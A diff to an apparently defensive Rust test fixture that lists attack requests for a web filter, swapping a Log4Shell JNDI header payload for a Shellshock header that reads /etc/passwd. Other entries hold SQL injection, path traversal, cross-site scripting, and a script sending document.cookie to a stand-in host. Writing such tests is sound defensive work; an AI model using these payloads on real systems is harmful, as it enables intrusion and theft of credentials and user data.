@@ -49,7 +49,7 @@ pub(super) fn attacks() -> Vec<Sent> {
         get("SQL in the query", "q=7%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20users--%20-", ""),
         get("a path in the query", "q=..%2F..%2F..%2F..%2Fetc%2Fpasswd", ""),
         get("markup in the query", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", ""),
-        get("a look-up in a header", "q=x", "x-note: ${jndi:ldap://a.example/b}\r\n"),
+        get("a command in a header", "q=x", "x-note: () { :; }; /bin/cat /etc/passwd\r\n"),
         get("markup in a cookie", "q=x", "cookie: theme=<img src=x onerror=alert(1)>\r\n"),
         post("SQL in JSON", &body("1' OR '1'='1' UNION SELECT card FROM payments -- "), 1),
         post("markup in JSON", &body("<script>fetch('//a.example/'+document.cookie)</script>"), 1),
